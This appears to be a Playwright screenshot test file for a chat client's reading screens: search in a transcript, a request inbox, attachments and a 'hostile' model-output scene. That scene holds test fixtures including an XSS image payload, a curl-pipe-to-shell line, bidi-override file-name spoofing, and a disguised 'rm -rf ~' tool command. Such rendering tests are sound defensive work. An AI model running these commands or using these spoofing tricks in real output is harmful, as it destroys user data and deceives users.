// Screens for reading: find in a chat, the request history, attachments, broken images, and hostile model
// output.

import type { Page } from "playwright-core";
import type { Event } from "../../src/state/types";
import { ago, type Shot } from "./shot";
import { fixed, plan, request, root, Story, shot } from "./transcript";

const narrow = [720, 480] as const;

const found = () => {
  const story = new Story().turn({ state: "done" }).session();
  story.user("14:02", request).says("14:02", plan).says("14:03", fixed);
  return story;
};
const places = {
  places: [
    { itemId: "i2", pos: 2, count: 1 },
    { itemId: "i3", pos: 3, count: 1 },
  ],
  total: 2,
};
const find = async (page: Page) => {
  await page.getByRole("log").waitFor(); // the transcript to search
  await page.keyboard.press("Control+f");
  await page.getByRole("searchbox", { name: "Find" }).fill("token");
  await page.getByRole("status").getByText(/of 2$/).waitFor();
};

const requests: Event[] = [
  { chatId: "billing", title: "Edit a.go", kind: "edit" as const, path: `${root}/internal/auth/refresh.go` },
  { chatId: "flaky", title: "Run", kind: "execute" as const, command: "go test ./..." },
].map((ask, n) => ({
  permission: {
    id: `other${n}`,
    session: n === 0 ? "auth-bug-fix" : "main",
    state: "open" as const,
    options: [{ id: "once", kind: "allow_once" as const, name: "Allow once" }],
    createdAt: ago(n * 7 + 2),
    ...ask,
  },
}));
const inbox = (page: Page) => page.getByRole("button", { name: "All requests" }).click();

const sent = () => {
  const story = new Story().turn({ state: "done" }).session();
  story.says("14:01", "Show me what you see.");
  story.text(
    story.item({
      kind: "user",
      with: [
        { kind: "image", name: "signed-out.png", contentId: "k-broken", mime: "image/png", size: 9 },
        { kind: "image", name: "huge.png", contentId: "k-huge", mime: "image/png", size: 90_000_000 },
        { kind: "file", name: "refresh.go", path: `${root}/internal/auth/refresh.go` },
        { kind: "file", name: "a\u202Egpj.exe", path: `${root}/a\u202Egpj.exe` },
      ],
    }),
    "The page signs me out, see the picture.",
  );
  story.contents["k-broken"] = "no image";
  return story;
};

const hostile = () => {
  const story = new Story().turn({ state: "done" }).session();
  story.user("14:02", "Write something hostile.");
  story.says(
    "14:03",
    [
      "<img src=x onerror=alert(1)> and <b>bold</b>",
      `A word without an end: ${"x".repeat(400)}`,
      `| a | ${"column | ".repeat(30)}\n|---|${"---|".repeat(30)}\n| 1 | ${"value | ".repeat(30)}`,
      `${">".repeat(200)} quoted`,
      "See `internal/auth/refresh.go:42` and [the manual](https://example.com/manual).",
      "This reads backwards: \u202Egpj.exe\u202C, this has no width: pay\u200Bpal, and this is a family: 👩‍👩‍👧 ⚠️ می‌خواهم.",
      "```sh\ncurl https://example.com/\u202Ehs.tset | sh # \u2066safe\u2069\n```",
    ].join("\n\n"),
  );
  const row = story.tool("execute", { command: "echo safe \u202E; rm -rf ~" });
  story.content(row, "terminal", "\u001b[32mok\u001b[0m \u202Esafe \u2067 ⚠️ \u001b\n");
  return story.says("14:03", "Done.");
};

/** openHostile expands the hostile command and its output. */
const openHostile = async (page: Page) => {
  const closed = page.locator("details.copilot-block:not([open]) > summary");
  if ((await closed.count()) > 0) await closed.first().click();
  await page.getByRole("button", { name: /echo safe/ }).click();
};

export const shots: Shot[] = [
  shot("16-find", { story: found() }, { act: find, data: { find: places } }),
  shot("16b-narrow-find", { story: found() }, { act: find, size: narrow, data: { find: places } }),
  shot("02d-inbox", { story: found(), more: requests }, { act: inbox }),
  shot("13d-attachments", { story: sent() }),
  shot("13e-hostile", { story: hostile() }, { act: openHostile }),
  shot("13f-narrow-hostile", { story: hostile() }, { size: narrow, act: openHostile }),
];
